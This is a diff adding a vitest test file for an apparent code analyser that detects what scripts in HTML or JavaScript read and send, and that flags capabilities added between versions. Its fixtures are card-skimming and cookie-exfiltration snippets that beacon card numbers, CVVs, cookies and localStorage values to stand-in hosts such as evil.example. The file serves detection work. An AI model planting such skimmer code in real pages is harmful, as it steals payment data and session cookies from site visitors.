@@ -1,0 +1,73 @@
+// Guards the look at whole files, HTML and escaped text among them, and the set of capabilities that versions are compared by.
+import { describe, expect, it } from 'vitest'
+import { capabilitiesOf, lookAtCode, newCapabilities } from '#program/index.ts'
+
+const words = (text: string) => capabilitiesOf(lookAtCode(text)).map(({ kind, what }) => `${kind} ${what}`)
+const thief =
+  'document.querySelector("#cc-number").addEventListener("keyup", (e) => navigator.sendBeacon("https://evil.example/c", e.target.value))'
+
+describe('a look at a file', () => {
+  it('finds the scripts and handlers of HTML, at their places in the file', () => {
+    const html = `<!doctype html><p onclick="fetch('https://clicks.example/?' + document.cookie)">Pay</p>\n<script type="text/javascript">//<![CDATA[\n${thief}\n//]]></script>`
+    const look = lookAtCode(html)
+    expect(look.parsed).toBe('whole')
+    expect(words(html)).toEqual(expect.arrayContaining(['sends card > evil.example', 'sends cookie > clicks.example']))
+    const beacon = look.facts.find((fact) => fact.kind === 'contacts' && fact.way === 'beacon')
+    expect(html.slice(beacon?.place?.start, beacon?.place?.end)).toContain('navigator.sendBeacon("https://evil.example/c"')
+  })
+
+  it('finds code whose quotes a database has escaped', () => {
+    expect(words(thief.replaceAll('"', '\\"'))).toContain('sends card > evil.example')
+  })
+
+  it('leaves data and templates of HTML alone, and says where code has no tree', () => {
+    expect(lookAtCode('<script type="application/json">{"a": "fetch()"}</script><script>let x = ;</script>')).toMatchObject({
+      parsed: 'none',
+      facts: [],
+    })
+    expect(lookAtCode('<script>let x = ;</script><script>y = 1</script>').parsed).toBe('partly')
+    expect(lookAtCode('let x = ;').parsed).toBe('none')
+  })
+
+  it('keeps apart what several programs of a page read and send', () => {
+    const look = lookAtCode(
+      '<script>fetch("https://a.example/", { body: document.cookie })</script><script>fetch("https://b.example/", { body: localStorage.getItem("k") })</script>',
+    )
+    expect(
+      capabilitiesOf(look)
+        .filter(({ kind }) => kind === 'sends')
+        .map(({ what }) => what),
+    ).toEqual(['cookie > a.example', 'storage > b.example'])
+  })
+})
+
+describe('capabilities', () => {
+  it('name what is read, listened to, sent and where', () => {
+    expect(words(thief)).toEqual(['contacts evil.example', 'listens keyup card', 'reads card', 'sends card > evil.example'])
+  })
+
+  it('tell what a version can do that the one before could not', () => {
+    const before =
+      'document.querySelector("#cc-number").addEventListener("input", (e) => { e.target.className = e.target.value.length > 12 ? "ok" : "" })'
+    const after = `${before};${thief}`
+    const added = newCapabilities(capabilitiesOf(lookAtCode(before)), capabilitiesOf(lookAtCode(after)))
+    expect(added.map(({ kind, what }) => `${kind} ${what}`)).toEqual([
+      'contacts evil.example',
+      'listens keyup card',
+      'sends card > evil.example',
+    ])
+    expect(newCapabilities(capabilitiesOf(lookAtCode(after)), capabilitiesOf(lookAtCode(before)))).toEqual([])
+  })
+
+  it('are the same for other names of the same program', () => {
+    expect(
+      words(
+        'function send(a) { var b = a.target.value; navigator.sendBeacon("https://x.example", b) } document.querySelector("[name=cvv]").onkeyup = send',
+      ),
+    ).toEqual(
+      words(
+        'function q(w) { var z = w.target.value; navigator.sendBeacon("https://x.example", z) } document.querySelector("[name=cvv]").onkeyup = q',
+      ),
+    )
+  })
+})
